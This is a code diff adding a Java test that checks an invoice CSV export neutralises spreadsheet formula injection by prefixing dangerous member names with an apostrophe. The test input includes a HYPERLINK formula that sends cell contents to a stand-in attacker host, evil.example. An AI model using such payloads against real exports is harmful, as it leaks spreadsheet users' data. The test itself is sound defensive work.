@@ -121,6 +121,22 @@ class FeePagesTests {
     }
 
     @Test
+    void aNameThatASpreadsheetWouldRunAsAFormulaIsWrittenAsTextInTheInvoiceList() throws Exception {
+        KnownNetwork.store(mvc, KnownNetwork.JSON
+                .replace("Hollin Legal Aid Trust", "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"x\\\")")
+                .replace("Northbridge Foundation", "@SUM(1+1)"));
+
+        String csv = mvc.perform(get("/fees/invoices.csv").with(viewer())).andExpect(status().isOk()).andReturn()
+                .getResponse().getContentAsString();
+
+        assertThat(csv).isEqualTo("""
+                memberId,name,amount,currency\r
+                hollin,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",1000,GBP\r
+                northbridge,'@SUM(1+1),10000,GBP\r
+                """);
+    }
+
+    @Test
     void withoutOurIncomeTheBookIsTotalledButNotMeasuredAndStaffAreAskedForIt() throws Exception {
         KnownNetwork.store(mvc, KnownNetwork.JSON.replace(OUR_INCOME, ""));
 
